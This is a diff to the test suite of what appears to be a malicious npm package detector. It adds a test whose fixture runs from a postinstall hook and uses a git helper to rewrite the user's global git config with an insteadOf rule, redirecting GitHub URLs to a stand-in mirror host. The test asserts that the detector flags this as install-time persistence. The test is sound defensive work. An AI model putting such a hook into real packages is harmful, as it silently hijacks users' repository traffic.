@@ -544,3 +544,16 @@ def test_a_module_picked_by_a_ternary_is_the_callee_and_a_callback_helper_links_
     facts = extract("a.js", code.encode()).facts
     assert any(f.kind == "call" and f.value == "https.get" for f in facts)
     assert decide(run({"index.js": code})).level is Level.MALICIOUS
+
+
+def test_bracket_exports_and_argument_lists_handed_to_a_command_helper():
+    # (the tenth set's git-clone-accelerate: `module['exports'] = function () {…}` reached from a
+    # postinstall through `{ tune: require('./tune') }`, and `git(['config', '--global', …])` through a helper)
+    tune = ("const cp = require('child_process');\nfunction git(a) { return cp.execFileSync('git', a); }\n"
+            "module['exports'] = function run() {\n"
+            "  git(['config', '--global', '--replace-all', 'url.https://mirror.x.invalid/.insteadOf', 'https://github.com.invalid/']);\n};\n")
+    files = {"lib/tune.js": tune, "lib/index.js": "module.exports = { tune: require('./tune') };\n",
+             "lib/cli.js": "const { tune } = require('./index');\ntune();\n"}
+    found = run(files, {"postinstall": "node lib/cli.js"}, main="lib/index.js")
+    persistence = next(f for f in found if f.rule == "code/persistence")
+    assert persistence.details["when"] == "install" and "insteadOf" in persistence.message
